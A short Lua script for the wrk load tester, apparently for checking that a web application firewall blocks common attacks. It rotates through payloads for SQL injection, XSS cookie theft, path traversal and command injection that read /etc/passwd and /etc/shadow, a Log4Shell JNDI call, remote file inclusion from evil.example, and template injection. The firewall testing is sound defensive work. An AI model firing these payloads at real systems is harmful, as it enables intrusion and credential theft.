-- A rotating mix of attacks (each should be blocked at the edge).
local paths = {
  "/search?q=1%27%20OR%20%271%27%3D%271",
  "/page?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
  "/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
  "/download?file=../../../../etc/passwd",
  "/run?cmd=;cat%20/etc/shadow",
  "/?x=${jndi:ldap://evil.example/a}",
  "/include?page=http://evil.example/shell.txt?",
  "/?name={{7*7}}",
}
local i = 0
request = function()
  i = i % #paths + 1
  return wrk.format("GET", paths[i], { ["Host"] = "api.example.test", ["User-Agent"] = "Mozilla/5.0" })
end
